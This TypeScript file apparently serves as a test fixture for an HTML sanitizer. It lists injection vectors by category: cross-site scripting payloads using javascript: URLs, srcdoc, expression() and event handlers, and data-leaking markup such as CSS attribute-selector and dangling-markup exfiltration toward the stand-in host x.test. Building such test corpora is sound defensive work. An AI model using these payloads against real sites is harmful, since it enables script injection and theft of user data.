import { texts } from '../../support/texts.ts'
import type { VectorClass } from './vector-class.ts'

export const loading: readonly VectorClass[] = [
  {
    name: 'styles',
    vectors: [
      ...texts(`
      <style>@import "//x.test/x.css";</style> | <style>p{background:url(//x.test/x)}</style><p>x</p>
      <p style="background:url(//x.test/x)">x</p> | <p style="background-image:url(javascript:alert(1))">x</p>
      <p style="width:expression(alert(1))">x</p> | <p style="width:exp/**/ression(alert(1))">x</p>
      <p style="behavior:url(#default#time2)">x</p> | <p style="-moz-binding:url(//x.test/x.xml#x)">x</p>
      <div style="position:fixed;inset:0;z-index:9999">x</div> | <p style="list-style:url(//x.test/x)">x</p>
      <b STYLE="background:u\\72l(//x.test/x)">x</b> | <link rel=stylesheet href=//x.test/x.css>
      <style>@font-face{font-family:x;src:url(//x.test/x)}p{font-family:x}</style><p>x</p>
      <style>input[value^=a]{background:url(//x.test/a)}</style> | <div class="modal-backdrop show">x</div>
    `),
      '<p style=\'content:url("//x.test/x")\'>x</p>',
    ],
  },
  {
    name: 'frames and plug-ins',
    vectors: texts(`
      <iframe src=javascript:alert(1)></iframe> | <iframe src=//x.test></iframe>
      <iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
      <iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>
      <iframe srcdoc=&lt;img&#32;src=x&#32;onerror=parent.alert(1)&gt;></iframe>
      <iframe src="data:text/html,<script>alert(1)</script>"></iframe>
      <frameset><frame src=javascript:alert(1)></frameset> | <object data=javascript:alert(1)></object>
      <object data="data:text/html,<script>alert(1)</script>"></object>
      <object type=text/html data=//x.test></object>
      <object><param name=src value=javascript:alert(1)></object> | <embed src=javascript:alert(1)>
      <embed src="data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=alert(1) />">
      <applet code=x codebase=//x.test></applet> | <portal src=//x.test></portal>
      <fencedframe src=//x.test></fencedframe> | <iframe src=jAvAsCrIpT:alert(1)
      <p><iframe/src=javascript:alert(1)></p>
    `),
  },
  {
    name: 'documents that are redirected or rebased',
    vectors: texts(`
      <meta http-equiv=refresh content="0;url=javascript:alert(1)">
      <meta http-equiv=refresh content="0;url=//x.test">
      <meta http-equiv="refresh" content="0; URL=data:text/html,<script>alert(1)</script>">
      <meta http-equiv=set-cookie content="a=b">
      <meta http-equiv=content-security-policy content="script-src *">
      <meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4- | <meta name=referrer content=unsafe-url>
      <base href="javascript:/a/-alert(1)///"><a href=#>x</a> | <base href=//x.test/><a href="/x">x</a>
      <base target="<script>alert(1)</script>"> | <link rel=import href=//x.test/x>
      <link rel=prefetch href=//x.test/x> | <link rel=preload as=script href=//x.test/x>
      <link rel=dns-prefetch href=//x.test> | <link rel=preconnect href=//x.test>
      <link rel=manifest href=//x.test/x> | <html manifest=//x.test/x>x</html> | <html onclick=alert(1)>x
      <head><base href=//x.test></head> | <body background=//x.test/x>x
      <body style="background:url(//x.test/x)">x
    `),
  },
  {
    name: 'forms',
    vectors: texts(`
      <form action=javascript:alert(1)><input type=submit>
      <form action=//x.test><input name=x><button>x</button></form>
      <form><button formaction=javascript:alert(1)>x</button></form>
      <button form=x formaction=//x.test>x</button>
      <form id=x></form><button form=x formaction=javascript:alert(1)>x</button>
      <input type=image formaction=javascript:alert(1) src=//x.test/x>
      <isindex action=javascript:alert(1) type=image> | <form><input name=action><input name=submit>
      </form><form action=//x.test> | <textarea form=x name=x>x | <button popovertarget=x>x</button>
      <button commandfor=x command=show-modal>x</button>
      <input type=hidden popover onbeforetoggle=alert(1) id=x> | <select><option>x</select>
      <a href="https://example.ca" ping=//x.test/x>x</a> | <a href="https://example.ca" download=x>x</a>
      <a href="https://example.ca" target=opener>x</a> | <a href="https://example.ca" rel=opener>x</a>
      <a href="https://example.ca" attributionsrc=//x.test/x>x</a>
    `),
  },
  {
    name: 'pictures and media that leak',
    vectors: [
      '<img src=//x.test/x.png>',
      '<img src=https://x.test/x.png width=1 height=1>',
      '<img srcset="//x.test/x.png 1x">',
      '<img src="//x.test/?',
      "<img src='//x.test/?",
      '<video poster=//x.test/x></video>',
      '<video src=//x.test/x autoplay></video>',
      '<audio src=//x.test/x autoplay></audio>',
      '<picture><source srcset=//x.test/x><img></picture>',
      '<track src=//x.test/x>',
      '<input type=image src=//x.test/x>',
      '<table background=//x.test/x><tr><td>x</table>',
      '<td background=//x.test/x>x</td>',
      '<img usemap=#x src=x><map name=x><area href=javascript:alert(1) shape=default></map>',
      '<bgsound src=//x.test/x>',
      '<img dynsrc=//x.test/x lowsrc=//x.test/y>',
    ],
  },
]
